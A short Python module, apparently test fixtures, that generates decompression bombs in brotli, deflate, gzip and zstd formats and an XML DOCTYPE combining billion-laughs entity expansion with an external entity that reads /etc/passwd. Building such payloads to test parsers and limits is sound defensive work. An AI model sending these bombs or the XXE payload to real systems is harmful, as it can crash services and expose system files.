"""Bodies that are small as they come and gigabytes when they are unpacked. Made step by step: no gigabyte is ever
held.
"""

from __future__ import annotations

import zlib
from functools import cache

import brotli

_BLOCK = bytes(1 << 20)


@cache
def brotli_bomb() -> bytes:
    """1.6 KB that are 2.1 GB of zeros. Takes seconds to make."""
    press = brotli.Compressor(quality=5, lgwin=24)
    step = bytes(1 << 24)
    return bytes(b"".join(press.process(step) for _ in range(128)) + press.finish())


def deflate_bomb(megabytes: int = 5000) -> bytes:
    """Raw deflate (RFC 1951), a thousandth of what it unpacks to."""
    press = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # After a full flush nothing refers back: the same block may be said again and again.
    block = press.compress(_BLOCK) + press.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()


def gzip_bomb(megabytes: int = 5000, begin: bytes = b"") -> bytes:
    """One gzip member (RFC 1952) that begins with some text; nobody comes so far as to miss its checksum."""
    press = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = press.compress(begin) + press.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08" + bytes(7) + head + deflate_bomb(megabytes) + bytes(8)


def zstd_bomb(blocks: int = 20_000) -> bytes:
    """Blocks of four bytes, each one letter 131,072 times (RFC 8878, section 3.1.1.2): 80 KB that are 2.6 GB."""
    head = b"\x28\xb5\x2f\xfd" + bytes([0x00, 0x58])
    run = 1 << 1 | 131_072 << 3
    return head + (run.to_bytes(3, "little") + b"x") * blocks + (run | 1).to_bytes(3, "little") + b"x"


def entities(kind: str, file: str = "/etc/passwd") -> str:
    """A document type whose entity `l9` is two billion letters, and whose `x` is a file."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE {kind} [<!ENTITY l0 "ha">{levels}<!ENTITY x SYSTEM "file://{file}">]>'
